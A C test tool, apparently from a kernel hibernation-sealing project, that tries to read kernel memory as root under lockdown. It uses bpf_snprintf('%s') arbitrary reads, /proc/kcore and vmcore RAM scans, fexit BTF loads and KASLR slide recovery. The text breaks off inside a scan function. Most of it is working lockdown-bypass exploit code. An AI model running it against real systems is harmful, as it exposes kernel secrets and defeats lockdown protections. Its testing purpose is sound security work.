// SPDX-License-Identifier: GPL-2.0
/*
 * hibseal-memread: can root read kernel memory? An attacker's tool for the VM tests.
 *
 *   hibseal-memread sym NAME            the kernel addresses of symbol NAME: /proc/kallsyms, or
 *                                       /boot/System.map plus the KASLR slide of _text
 *   hibseal-memread bpf ADDR LEN        read LEN (<= 4096) bytes at ADDR (hex) with the "%s" of
 *                                       bpf_snprintf(), which no lockdown reason guards
 *   hibseal-memread kcore ADDR LEN      read them from /proc/kcore
 *   hibseal-memread METHOD find NAME HEX RANGE AFTER
 *                                       look for the bytes HEX (<= 64) in the RANGE (<= 4096)
 *                                       bytes at each address of NAME; on the first match read
 *                                       AFTER (<= 4096) bytes that follow it
 *   hibseal-memread METHOD banner       read 64 bytes at linux_banner and compare them with
 *                                       /proc/version
 *   hibseal-memread kcore|vmcore scan HEX AFTER [ZEROS]
 *                                       look for HEX in all of RAM (the direct map's segments of
 *                                       /proc/kcore, or of a crash kernel's /proc/vmcore: the
 *                                       crashed kernel's RAM) and print the AFTER (<= 64) bytes
 *                                       after each match (the first 32 matches); with ZEROS
 *                                       (<= 64), only matches that follow that many zero bytes
 *   hibseal-memread fexit FUNC ARG [test_resume]
 *                                       load a tracing program on the exit of kernel function
 *                                       FUNC (its BTF id from /sys/kernel/btf/vmlinux) that
 *                                       copies the first 32 bytes of the object its argument
 *                                       ARG (0-5) points to into a map, through BTF-typed
 *                                       loads, and attach it; with test_resume, then hibernate
 *                                       in that mode (the boot runs on) and print what the
 *                                       program read
 *   hibseal-memread flex CRED GROUPS OFF
 *                                       load a socket filter that reads 32 bytes at OFF (decimal)
 *                                       past the start of its task's supplementary groups
 *                                       (bpf_get_current_task_btf(), then ->cred at offset CRED,
 *                                       ->group_info at GROUPS: a struct ending in a flexible
 *                                       array, whose elements the verifier lets a program read
 *                                       at any constant offset), four bytes a load, into a
 *                                       map, run it and print them ("memread: flex hex=...")
 *   hibseal-memread --after-lift METHOD ...
 *                                       first, as SCHED_FIFO at the top priority, memory locked,
 *                                       spin on /sys/kernel/security/lockdown until it reads
 *                                       none (60 s at most), then run the command at once: no
 *                                       task of normal priority runs in between on this CPU
 *
 * METHOD is bpf or kcore. Every line on stdout starts with "memread: "; a refusal by the
 * kernel is reported there too ("memread: bpf refused step=...", "memread: kcore refused
 * step=..."). The bpf method sees a byte it cannot read (a fault) as 0, so only a match
 * (find, banner) proves that memory was read. Exit status: 0 when the operation ran (whatever
 * the kernel answered, a refusal included), 1 on a failure to run it, 2 usage.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>
#include <linux/bpf.h>

#define MAX_LEN		4096
#define MAX_PATTERN	64
#define MAX_CANDS	16
#define BANNER_LEN	64
#define BANNER_TEXT	40
#define FMT_SIZE	8
#define OUT_SIZE	64
#define ARRAY_SIZE(a)	(sizeof(a) / sizeof((a)[0]))

static int fail(const char *what)
{
	fprintf(stderr, "hibseal-memread: %s: %s\n", what, strerror(errno));
	return -1;
}

static void print_hex(const uint8_t *p, size_t n)
{
	while (n--)
		printf("%02x", *p++);
}

/* @s with spaces as '_' and what is not printable as '.', at most @n bytes, stops at a NUL. */
static const char *text(const void *s, size_t n)
{
	static char t[256];
	const unsigned char *p = s;
	size_t i;

	for (i = 0; i < n && i < sizeof(t) - 1 && p[i]; i++)
		t[i] = p[i] == ' ' ? '_' : (p[i] > ' ' && p[i] < 0x7f) ? (char)p[i] : '.';
	t[i] = 0;
	return t;
}

/* --- symbols --- */

static int add_addr(uint64_t *addrs, int n, uint64_t a)
{
	int i;

	for (i = 0; i < n; i++)
		if (addrs[i] == a)
			return n;
	if (n < MAX_CANDS)
		addrs[n++] = a;
	return n;
}

/*
 * The distinct nonzero addresses of @name in @path ("ADDR TYPE NAME [module]" lines) into
 * @addrs, and the address of _text into @text. *@seen tells whether @name is listed at all.
 * Returns the number of addresses, -1 if @path cannot be opened.
 */
static int scan_syms(const char *path, const char *name, uint64_t *addrs, uint64_t *text,
		     bool *seen)
{
	char line[512], sym[256];
	FILE *f = fopen(path, "r");
	uint64_t a;
	int n = 0;

	if (!f)
		return -1;
	*text = 0;
	*seen = false;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%" SCNx64 " %*c %255s", &a, sym) != 2)
			continue;
		if (!*text && !strcmp(sym, "_text"))
			*text = a;
		if (strcmp(sym, name))
			continue;
		*seen = true;
		if (a)
			n = add_addr(addrs, n, a);
	}
	fclose(f);
	return n;
}

static int scan_system_map(const char *name, uint64_t *addrs, uint64_t *text, bool *seen)
{
	char path[128];
	struct utsname u;
	int n;

	n = scan_syms("/boot/System.map", name, addrs, text, seen);
	if (n >= 0 || uname(&u))
		return n;
	snprintf(path, sizeof(path), "/boot/System.map-%s", u.release);
	return scan_syms(path, name, addrs, text, seen);
}

/* The candidate addresses of @name (up to MAX_CANDS): their number, 0 if none, -1 on failure. */
static int sym_resolve(const char *name, uint64_t *addrs)
{
	uint64_t ktext, mtext, maddrs[MAX_CANDS];
	bool kseen, mseen;
	int n, i;

	n = scan_syms("/proc/kallsyms", name, addrs, &ktext, &kseen);
	if (n < 0)
		return fail("open /proc/kallsyms");
	if (n > 0)
		return n;
	n = scan_system_map(name, maddrs, &mtext, &mseen);
	if (n < 0 && kseen) {
		fprintf(stderr, "hibseal-memread: %s: no address in /proc/kallsyms and no System.map\n",
			name);
		return -1;
	}
	if (n <= 0)
		return 0;
	if (!ktext || !mtext) {
		fprintf(stderr, "hibseal-memread: no KASLR slide: _text has no address in %s\n",
			ktext ? "System.map" : "/proc/kallsyms");
		return -1;
	}
	for (i = 0; i < n; i++)
		addrs[i] = maddrs[i] + (ktext - mtext);
	return n;
}

/* --- bpf_snprintf("%s") --- */

#define INSN(c, d, s, o, i) ((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), \
					       .off = (o), .imm = (i) })
#define LD_IMM64(d, s, lo, hi)	INSN(BPF_LD | BPF_DW | BPF_IMM, d, s, 0, lo), INSN(0, 0, 0, 0, hi)
#define LD_MAP_FD(d, fd)	LD_IMM64(d, BPF_PSEUDO_MAP_FD, fd, 0)
#define LD_MAP_VALUE(d, fd, o)	LD_IMM64(d, BPF_PSEUDO_MAP_VALUE, fd, o)
#define LDX_DW(d, s, o)		INSN(BPF_LDX | BPF_MEM | BPF_DW, d, s, o, 0)
#define LDX_B(d, s, o)		INSN(BPF_LDX | BPF_MEM | BPF_B, d, s, o, 0)
#define STX_B(d, s, o)		INSN(BPF_STX | BPF_MEM | BPF_B, d, s, o, 0)
#define STX_DW(d, s, o)		INSN(BPF_STX | BPF_MEM | BPF_DW, d, s, o, 0)
#define ST_W(d, o, i)		INSN(BPF_ST | BPF_MEM | BPF_W, d, 0, o, i)
#define MOV_REG(d, s)		INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define MOV_IMM(d, i)		INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define ADD_IMM(d, i)		INSN(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
#define JNE_IMM(d, i, o)	INSN(BPF_JMP | BPF_JNE | BPF_K, d, 0, o, i)
#define CALL(f)			INSN(BPF_JMP | BPF_CALL, 0, 0, 0, f)
#define EXIT()			INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)

struct bpf_reader {
	int fmt, out, arg, prog;
};

static char vlog[65536];

static uint64_t ptr(const void *p)
{
	return (uint64_t)(uintptr_t)p;
}

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(__NR_bpf, cmd, attr, sizeof(*attr));
}

static int map_create(const char *name, uint32_t value_size, uint32_t flags)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = sizeof(uint32_t);
	attr.value_size = value_size;
	attr.max_entries = 1;
	attr.map_flags = flags;
	memcpy(attr.map_name, name, strlen(name));
	return (int)sys_bpf(BPF_MAP_CREATE, &attr);
}

/* BPF_MAP_UPDATE_ELEM, BPF_MAP_LOOKUP_ELEM or BPF_MAP_FREEZE on entry 0 of map @fd. */
static int map_op(int cmd, int fd, void *val)
{
	union bpf_attr attr;
	uint32_t key = 0;

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = fd;
	if (cmd != BPF_MAP_FREEZE) {
		attr.key = ptr(&key);
		attr.value = ptr(val);
	}
	return (int)sys_bpf(cmd, &attr);
}

/* The line of the verifier log that says why: the last one before "processed N insns". */
static const char *log_reason(const char *log)
{
	static char reason[256];
	const char *p, *end;
	size_t n, i;

	strcpy(reason, "-");
	for (p = log; *p; p = *end ? end + 1 : end) {
		end = strchr(p, '\n');
		if (!end)
			end = p + strlen(p);
		n = (size_t)(end - p);
		if (!n || !strncmp(p, "processed ", 10))
			continue;
		if (n > sizeof(reason) - 1)
			n = sizeof(reason) - 1;
		for (i = 0; i < n; i++)
			reason[i] = p[i] == ' ' ? '_' : p[i];
		reason[n] = 0;
	}
	return reason;
}

/* BPF_PROG_LOAD of @n instructions, GPL, the verifier's log in vlog: a descriptor or -1. */
static int load_insns(uint32_t type, uint32_t attach, uint32_t btf_id,
		      const struct bpf_insn *insns, uint32_t n, const char *name)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = type;
	attr.expected_attach_type = attach;
	attr.attach_btf_id = btf_id;
	attr.insns = ptr(insns);
	attr.insn_cnt = n;
	attr.license = ptr("GPL");
	attr.log_buf = ptr(vlog);
	attr.log_size = sizeof(vlog);
	attr.log_level = 1;
	memcpy(attr.prog_name, name, strnlen(name, sizeof(attr.prog_name) - 1));
	return (int)sys_bpf(BPF_PROG_LOAD, &attr);
}

/*
 * r6 = &arg; *(u64 *)(fp - 8) = *r6; key = 0 at fp - 12; r0 = lookup(out, &key);
 * return r0 ? bpf_snprintf(r0, 64, &fmt ("%s"), fp - 8, 8) : 0
 */
static int prog_load(struct bpf_reader *b)
{
	struct bpf_insn insns[] = {
		LD_MAP_VALUE(BPF_REG_6, b->arg, 0),
		LDX_DW(BPF_REG_1, BPF_REG_6, 0),
		STX_DW(BPF_REG_10, BPF_REG_1, -8),
		ST_W(BPF_REG_10, -12, 0),
		LD_MAP_FD(BPF_REG_1, b->out),
		MOV_REG(BPF_REG_2, BPF_REG_10),
		ADD_IMM(BPF_REG_2, -12),
		CALL(BPF_FUNC_map_lookup_elem),
		JNE_IMM(BPF_REG_0, 0, 2),
		MOV_IMM(BPF_REG_0, 0),
		EXIT(),
		MOV_REG(BPF_REG_1, BPF_REG_0),
		MOV_IMM(BPF_REG_2, OUT_SIZE),
		LD_MAP_VALUE(BPF_REG_3, b->fmt, 0),
		MOV_REG(BPF_REG_4, BPF_REG_10),
		ADD_IMM(BPF_REG_4, -8),
		MOV_IMM(BPF_REG_5, 8),
		CALL(BPF_FUNC_snprintf),
		EXIT(),
	};
	union bpf_attr attr;
	int e;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = ptr(insns);
	attr.insn_cnt = ARRAY_SIZE(insns);
	attr.license = ptr("GPL");
	attr.log_buf = ptr(vlog);
	attr.log_size = sizeof(vlog);
	attr.log_level = 1;
	memcpy(attr.prog_name, "memread", sizeof("memread"));
	b->prog = (int)sys_bpf(BPF_PROG_LOAD, &attr);
	if (b->prog >= 0)
		return 0;
	e = errno;
	printf("memread: bpf refused step=load errno=%d (%s) log=%s\n", e, strerror(e),
	       log_reason(vlog));
	fprintf(stderr, "hibseal-memread: verifier log:\n%s\n", vlog);
	return 1;
}

/* The maps and the program. 0 when ready, 1 when the kernel refused (reported), -1 failure. */
static int bpf_setup(struct bpf_reader *b)
{
	char fmt[FMT_SIZE] = "%s";
	int e;

	b->fmt = map_create("fmt", FMT_SIZE, BPF_F_RDONLY_PROG);
	if (b->fmt < 0)
		goto refused;
	b->out = map_create("out", OUT_SIZE, 0);
	if (b->out < 0)
		goto refused;
	b->arg = map_create("arg", sizeof(uint64_t), 0);
	if (b->arg < 0 || map_op(BPF_MAP_UPDATE_ELEM, b->fmt, fmt) ||
	    map_op(BPF_MAP_FREEZE, b->fmt, NULL))
		goto refused;
	return prog_load(b);
refused:
	e = errno;
	printf("memread: bpf refused step=map errno=%d (%s)\n", e, strerror(e));
	return 1;
}

static void bpf_close(struct bpf_reader *b)
{
	int *fds[] = { &b->prog, &b->arg, &b->out, &b->fmt };
	size_t i;

	for (i = 0; i < ARRAY_SIZE(fds); i++) {
		if (*fds[i] >= 0)
			close(*fds[i]);
		*fds[i] = -1;
	}
}

/* Run the program on @addr: *@ret is what bpf_snprintf() returned. 0, 1 refused, -1. */
static int bpf_run(struct bpf_reader *b, uint64_t addr, int32_t *ret)
{
	uint8_t pkt[64] = { 0 };
	union bpf_attr attr;
	int e;

	if (map_op(BPF_MAP_UPDATE_ELEM, b->arg, &addr))
		return fail("bpf: update the arg map");
	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = b->prog;
	attr.test.data_in = ptr(pkt);
	attr.test.data_size_in = sizeof(pkt);
	attr.test.repeat = 1;
	if (sys_bpf(BPF_PROG_TEST_RUN, &attr)) {
		e = errno;
		printf("memread: bpf refused step=test_run errno=%d (%s)\n", e, strerror(e));
		return 1;
	}
	*ret = (int32_t)attr.test.retval;
	return 0;
}

/*
 * One "%s" reads the string at @addr: bpf_snprintf() returns its length + 1 (the kernel copies
 * at most 511 bytes of it) and leaves its first 63 bytes in the out map. A string shorter than
 * 63 bytes is followed by a 0; a longer one continues at @addr + 63.
 */
static int bpf_read(struct bpf_reader *b, uint64_t addr, uint8_t *buf, size_t len)
{
	char out[OUT_SIZE];
	size_t pos = 0, slen, n;
	int32_t ret;
	int err;

	while (pos < len) {
		err = bpf_run(b, addr + pos, &ret);
		if (err)
			return err;
		if (ret < 0) {
			printf("memread: bpf refused step=run helper=%" PRId32 " at=0x%" PRIx64 "\n",
			       ret, addr + pos);
			return 1;
		}
		if (!ret) {
			fprintf(stderr, "hibseal-memread: bpf: the program found no out map value\n");
			return -1;
		}
		if (map_op(BPF_MAP_LOOKUP_ELEM, b->out, out))
			return fail("bpf: look up the out map");
		slen = (size_t)ret - 1;
		n = slen < OUT_SIZE - 1 ? slen : OUT_SIZE - 1;
		if (strnlen(out, OUT_SIZE) != n) {
			fprintf(stderr, "hibseal-memread: bpf: helper returned %" PRId32
				" but the out map holds %zu bytes\n", ret, strnlen(out, OUT_SIZE));
			return -1;
		}
		if (n > len - pos)
			n = len - pos;
		memcpy(buf + pos, out, n);
		pos += n;
		if (slen < OUT_SIZE - 1 && pos < len)
			buf[pos++] = 0;
	}
	return 0;
}

/* --- /proc/kcore --- */

struct kcore {
	int fd;
	Elf64_Phdr *ph;
	unsigned int n;
};

static int elfcore_open(struct kcore *k, const char *name)
{
	char path[32];
	Elf64_Ehdr eh;
	size_t size;
	int e;

	snprintf(path, sizeof(path), "/proc/%s", name);
	k->fd = open(path, O_RDONLY | O_CLOEXEC);
	if (k->fd < 0) {
		e = errno;
		printf("memread: %s refused step=open errno=%d (%s)\n", name, e, strerror(e));
		return 1;
	}
	if (pread(k->fd, &eh, sizeof(eh), 0) != (ssize_t)sizeof(eh) ||
	    memcmp(eh.e_ident, ELFMAG, SELFMAG) || eh.e_ident[EI_CLASS] != ELFCLASS64 ||
	    eh.e_phentsize != sizeof(Elf64_Phdr) || !eh.e_phnum || eh.e_phnum == PN_XNUM) {
		fprintf(stderr, "hibseal-memread: %s: no ELF64 header\n", path);
		return -1;
	}
	size = eh.e_phnum * sizeof(*k->ph);
	k->ph = malloc(size);
	if (!k->ph)
		return fail("kcore: malloc");
	if (pread(k->fd, k->ph, size, (off_t)eh.e_phoff) != (ssize_t)size)
		return fail("kcore: read the program headers");
	k->n = eh.e_phnum;
	return 0;
}

static int kcore_open(struct kcore *k)
{
	return elfcore_open(k, "kcore");
}

static void kcore_close(struct kcore *k)
{
	if (k->fd >= 0)
		close(k->fd);
	free(k->ph);
	k->fd = -1;
	k->ph = NULL;
}

static const Elf64_Phdr *kcore_segment(const struct kcore *k, uint64_t addr)
{
	unsigned int i;

	for (i = 0; i < k->n; i++)
		if (k->ph[i].p_type == PT_LOAD && addr >= k->ph[i].p_vaddr &&
		    addr - k->ph[i].p_vaddr < k->ph[i].p_filesz)
			return &k->ph[i];
	return NULL;
}

static int kcore_read(struct kcore *k, uint64_t addr, uint8_t *buf, size_t len)
{
	const Elf64_Phdr *p;
	uint64_t a;
	size_t pos = 0, n;
	ssize_t got;
	int e;

	while (pos < len) {
		a = addr + pos;
		p = kcore_segment(k, a);
		if (!p) {
			printf("memread: kcore unmapped addr=0x%" PRIx64 "\n", a);
			return 1;
		}
		n = len - pos;
		if (n > p->p_filesz - (a - p->p_vaddr))
			n = p->p_filesz - (a - p->p_vaddr);
		got = pread(k->fd, buf + pos, n, (off_t)(p->p_offset + (a - p->p_vaddr)));
		if (got <= 0) {
			e = got ? errno : 0;
			printf("memread: kcore refused step=read errno=%d (%s) at=0x%" PRIx64 "\n", e,
			       e ? strerror(e) : "end of file", a);
			return 1;
		}
		pos += (size_t)got;
	}
	return 0;
}

/* --- a method --- */

struct reader {
	const char *name;
	bool bpf, ready;
	struct bpf_reader b;
	struct kcore k;
};

/* Read @len bytes at @addr with the method of @r: 0, 1 when the kernel refused, -1 failure. */
static int rd_read(struct reader *r, uint64_t addr, uint8_t *buf, size_t len)
{
	int err;

	if (!r->ready) {
		err = r->bpf ? bpf_setup(&r->b) : kcore_open(&r->k);
		if (err)
			return err;
		r->ready = true;
	}
	return r->bpf ? bpf_read(&r->b, addr, buf, len) : kcore_read(&r->k, addr, buf, len);
}

/* --- commands --- */

static int cmd_sym(const char *name)
{
	uint64_t addrs[MAX_CANDS];
	int n, i;

	n = sym_resolve(name, addrs);
	if (n < 0)
		return -1;
	if (!n)
		printf("memread: sym %s not-found\n", name);
	for (i = 0; i < n; i++)
		printf("memread: sym %s=0x%" PRIx64 "\n", name, addrs[i]);
	return 0;
}

static int cmd_read(struct reader *r, uint64_t addr, size_t len)
{
	uint8_t buf[MAX_LEN];
	int err;

	err = rd_read(r, addr, buf, len);
	if (err)
		return err;
	printf("memread: %s addr=0x%" PRIx64 " len=%zu hex=", r->name, addr, len);
	print_hex(buf, len);
	putchar('\n');
	return 0;
}

static bool find_bytes(const uint8_t *buf, size_t len, const uint8_t *pat, size_t plen,
		       size_t *off)
{
	size_t i;

	for (i = 0; i + plen <= len; i++) {
		if (!memcmp(buf + i, pat, plen)) {
			*off = i;
			return true;
		}
	}
	return false;
}

static int report_after(struct reader *r, uint64_t addr, size_t len)
{
	uint8_t buf[MAX_LEN];
	bool zero = true;
	size_t i;
	int err;

	err = rd_read(r, addr, buf, len);
	if (err)
		return err;
	for (i = 0; i < len; i++)
		zero = zero && !buf[i];
	printf("memread: %s after hex=", r->name);
	print_hex(buf, len);
	printf("\nmemread: %s after zero=%d\n", r->name, zero);
	return 0;
}

static int cmd_find(struct reader *r, const char *name, const uint8_t *pat, size_t plen,
		    size_t range, size_t after)
{
	uint64_t addrs[MAX_CANDS];
	uint8_t buf[MAX_LEN];
	size_t off = 0;
	int n, i, err;

	n = sym_resolve(name, addrs);
	if (n < 0)
		return -1;
	for (i = 0; i < n; i++) {
		err = rd_read(r, addrs[i], buf, range);
		if (err)
			return err;
		if (find_bytes(buf, range, pat, plen, &off))
			break;
	}
	if (i == n) {
		printf("memread: %s find %s not-found\n", r->name, name);
		return 0;
	}
	printf("memread: %s find %s=0x%" PRIx64 " offset=%zu\n", r->name, name, addrs[i], off);
	return report_after(r, addrs[i] + off + plen, after);
}

static int read_version(char *buf, size_t size, size_t *len)
{
	FILE *f = fopen("/proc/version", "r");

	if (!f)
		return fail("open /proc/version");
	*len = fread(buf, 1, size, f);
	fclose(f);
	if (!*len) {
		fprintf(stderr, "hibseal-memread: /proc/version is empty\n");
		return -1;
	}
	return 0;
}

static int cmd_banner(struct reader *r)
{
	uint8_t kbuf[BANNER_LEN];
	uint64_t addrs[MAX_CANDS];
	char ver[BANNER_LEN];
	size_t vlen = 0;
	int n, err;

	if (read_version(ver, sizeof(ver), &vlen))
		return -1;
	n = sym_resolve("linux_banner", addrs);
	if (n <= 0) {
		if (!n)
			fprintf(stderr, "hibseal-memread: no symbol linux_banner\n");
		return -1;
	}
	err = rd_read(r, addrs[0], kbuf, BANNER_LEN);
	if (err)
		return err;
	printf("memread: %s banner match=%d text=%s\n", r->name, !memcmp(kbuf, ver, vlen),
	       text(kbuf, BANNER_TEXT));
	return 0;
}

/* --- arguments --- */

static int parse_addr(const char *s, uint64_t *v)
{
	char *end;

	errno = 0;
	*v = strtoull(s, &end, 16);
	return !*s || *end || errno ? -1 : 0;
}

static int parse_len(const char *s, size_t *v)
{
	unsigned long n;
	char *end;

	errno = 0;
	n = strtoul(s, &end, 10);
	if (!*s || *end || errno || n > MAX_LEN || *s == '-')
		return -1;
	*v = n;
	return 0;
}

static int hex_digit(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

static int parse_pattern(const char *s, uint8_t *pat, size_t *len)
{
	size_t n = strlen(s), i;
	int hi, lo;

	if (!n || n % 2 || n / 2 > MAX_PATTERN)
		return -1;
	for (i = 0; i < n / 2; i++) {
		hi = hex_digit(s[2 * i]);
		lo = hex_digit(s[2 * i + 1]);
		if (hi < 0 || lo < 0)
			return -1;
		pat[i] = (uint8_t)(hi << 4 | lo);
	}
	*len = n / 2;
	return 0;
}

/* --- fexit with BTF-typed loads --- */

#define FEXIT_BYTES	32

/*
 * The BTF id of the FUNC named @name in the kernel's BTF: walk the type section (ids from 1),
 * stepping over each kind's trailing data.
 */
static int btf_func_id(const char *name, uint32_t *id)
{
	static uint8_t btf[16 << 20];
	uint32_t hdr_len, type_off, type_len, str_off, str_len, n = 0, pos;
	size_t got;
	FILE *f = fopen("/sys/kernel/btf/vmlinux", "rb");

	if (!f)
		return fail("/sys/kernel/btf/vmlinux");
	got = fread(btf, 1, sizeof(btf), f);
	fclose(f);
	if (got < 24 || btf[0] != 0x9f || btf[1] != 0xeb)
		return fail("BTF header");
	memcpy(&hdr_len, btf + 4, 4);
	memcpy(&type_off, btf + 8, 4);
	memcpy(&type_len, btf + 12, 4);
	memcpy(&str_off, btf + 16, 4);
	memcpy(&str_len, btf + 20, 4);
	if ((uint64_t)hdr_len + type_off + type_len > got ||
	    (uint64_t)hdr_len + str_off + str_len > got)
		return fail("BTF sections");
	for (pos = 0; pos + 12 <= type_len;) {
		const uint8_t *t = btf + hdr_len + type_off + pos;
		uint32_t name_off, info, kind, vlen;
		static const uint8_t per_vlen[20] = { [4] = 12, [5] = 12, [6] = 8, [13] = 8,
						      [15] = 12, [19] = 12 };
		static const uint8_t extra[20] = { [1] = 4, [3] = 12, [14] = 4, [17] = 4 };

		memcpy(&name_off, t, 4);
		memcpy(&info, t + 4, 4);
		kind = (info >> 24) & 0x1f;
		vlen = info & 0xffff;
		n++;
		if (kind == 12 && name_off < str_len &&
		    !strcmp((const char *)btf + hdr_len + str_off + name_off, name)) {
			*id = n;
			return 0;
		}
		if (kind >= 20)
			return fail("BTF kind");
		pos += 12 + extra[kind] + per_vlen[kind] * vlen;
	}
	fprintf(stderr, "hibseal-memread: no function %s in the kernel's BTF\n", name);
	return -1;
}

/*
 * r6 = ctx[ARG] (a BTF pointer); for each byte i: out[i] = *(u8 *)(r6 + i); return 0.
 * Each load through r6 is a BTF-typed read of kernel memory.
 */
static int cmd_fexit(const char *func, int arg, bool hibernate)
{
	struct bpf_insn insns[3 + 2 * FEXIT_BYTES + 2], *in = insns;
	uint8_t out[FEXIT_BYTES] = { 0 };
	union bpf_attr attr;
	int map, prog, link, i, nonzero = 0;
	uint32_t id = 0;

	if (btf_func_id(func, &id))
		return -1;
	map = map_create("fexit_out", FEXIT_BYTES, 0);
	if (map < 0)
		return fail("map create");
	*in++ = LDX_DW(BPF_REG_6, BPF_REG_1, arg * 8);
	*in++ = INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_7, BPF_PSEUDO_MAP_VALUE, 0, map);
	*in++ = INSN(0, 0, 0, 0, 0);
	for (i = 0; i < FEXIT_BYTES; i++) {
		*in++ = LDX_B(BPF_REG_2, BPF_REG_6, i);
		*in++ = STX_B(BPF_REG_7, BPF_REG_2, i);
	}
	*in++ = MOV_IMM(BPF_REG_0, 0);
	*in++ = EXIT();
	prog = load_insns(BPF_PROG_TYPE_TRACING, BPF_TRACE_FEXIT, id, insns,
			  (uint32_t)(in - insns), "memread_fexit");
	if (prog < 0) {
		int e = errno;

		printf("memread: fexit refused step=load func=%s btf_id=%u errno=%d (%s) log=%s\n",
		       func, id, e, strerror(e), log_reason(vlog));
		fprintf(stderr, "hibseal-memread: verifier log:\n%s\n", vlog);
		return 0;
	}
	memset(&attr, 0, sizeof(attr));
	attr.raw_tracepoint.prog_fd = (uint32_t)prog;
	link = (int)sys_bpf(BPF_RAW_TRACEPOINT_OPEN, &attr);
	if (link < 0) {
		int e = errno;

		printf("memread: fexit refused step=attach func=%s errno=%d (%s)\n", func, e,
		       strerror(e));
		return 0;
	}
	printf("memread: fexit attached func=%s btf_id=%u arg=%d\n", func, id, arg);
	if (!hibernate)
		return 0;
	{
		int d = open("/sys/power/disk", O_WRONLY), st = open("/sys/power/state", O_WRONLY);
		bool ok = d >= 0 && st >= 0 && write(d, "test_resume", 11) == 11;

		ok = ok && write(st, "disk", 4) == 4;
		printf("memread: fexit hibernated mode=test_resume rc=%d errno=%d\n", ok ? 0 : 1,
		       ok ? 0 : errno);
	}
	if (map_op(BPF_MAP_LOOKUP_ELEM, map, out))
		return fail("map lookup");
	for (i = 0; i < FEXIT_BYTES; i++)
		nonzero += out[i] != 0;
	printf("memread: fexit read func=%s arg=%d hex=", func, arg);
	print_hex(out, FEXIT_BYTES);
	printf(" nonzero=%d\n", nonzero);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: hibseal-memread sym NAME\n"
			"       hibseal-memread bpf|kcore ADDR LEN\n"
			"       hibseal-memread bpf|kcore find NAME HEX RANGE AFTER\n"
			"       hibseal-memread bpf|kcore banner\n"
			"       hibseal-memread kcore|vmcore scan HEX AFTER [ZEROS]\n"
			"       hibseal-memread fexit FUNC ARG [test_resume]\n"
			"       hibseal-memread --after-lift bpf|kcore ...\n");
	return 2;
}

static bool lockdown_none(int fd)
{
	char buf[128];
	ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

	if (n <= 0)
		return false;
	buf[n] = 0;
	return strstr(buf, "[none]") != NULL;
}

/*
 * Wait for lockdown to be lifted as a real-time spinner that never sleeps: 0 once it reads
 * none, 1 after 60 s, -1 on a failure. "memread: waiting-for-lift" tells the host to press
 * SysRq+x.
 */
static int wait_lift(void)
{
	struct sched_param sp = { .sched_priority = sched_get_priority_max(SCHED_FIFO) };
	struct timespec start, now;
	int fd, ret = -1;

	fd = open("/sys/kernel/security/lockdown", O_RDONLY);
	if (fd < 0)
		return fail("/sys/kernel/security/lockdown");
	if (mlockall(MCL_CURRENT | MCL_FUTURE) || sched_setscheduler(0, SCHED_FIFO, &sp)) {
		fail("real-time priority");
		goto out;
	}
	printf("memread: waiting-for-lift policy=fifo priority=%d\n", sp.sched_priority);
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		if (lockdown_none(fd)) {
			printf("memread: lifted\n");
			ret = 0;
			goto out;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - start.tv_sec < 60);
	printf("memread: lift timeout\n");
	ret = 1;
out:
	close(fd);
	return ret;
}

#define SCAN_CHUNK	(1u << 20)
#define SCAN_SHOWN	32

/* One segment of RAM: every match of @pat that starts in it, and @after bytes after it. */
static int scan_segment(const char *name, struct kcore *k, const Elf64_Phdr *p,
			const uint8_t *pat, size_t plen, size_t after, size_t zeros, uint8_t *buf,
			unsigned int *matches, unsigned int *nonzero)
{
	uint64_t off, n, extra = plen + after;
	size_t i, j;
	ssize_t got;

	for (off = 0; off < p->p_filesz; off += SCAN_CHUNK) {
		n = p->p_filesz - off;
		if (n > SCAN_CHUNK + extra)
			n = SCAN_CHUNK + extra;
		got = pread(k->fd, buf, n, (off_t)(p->p_offset + off));
		if (got < 0)
			return fail("kcore: read");
		for (i = 0; i + extra <= (size_t)got && i < SCAN_CHUNK; i++) {
			bool zero = true;

			if (buf[i] != pat[0] || memcmp(buf + i, pat, plen) || i < zeros)
				continue;
			for (j = 0; j < zeros && !buf[i - zeros + j]; j++)
				;
			if (j < zeros)
				continue;
			for (j = 0; j < after; j++)
				zero = zero && !buf[i + plen + j];
			*nonzero += !zero;
			if (++*matches > SCAN_SHOWN)
				continue;
			printf("memread: %s scan match paddr=0x%" PRIx64 " after hex=", name,
			       p->p_paddr + off + i);
			print_hex(buf + i + plen, after);
			printf(" zero=%d\n", zero);
		}
	}
	return 0;
}

/*
 * kcore or vmcore scan: every RAM segment (one with a physical address, not the kernel text's
 * second view of it).
 */
static int cmd_scan(struct reader *r, const char *name, const uint8_t *pat, size_t plen,
		    size_t after, size_t zeros)
{
	unsigned int i, matches = 0, nonzero = 0;
	uint64_t bytes = 0;
	uint8_t *buf;
	int err;

	err = elfcore_open(&r->k, name);
	if (err)
		return err > 0 ? 0 : -1;
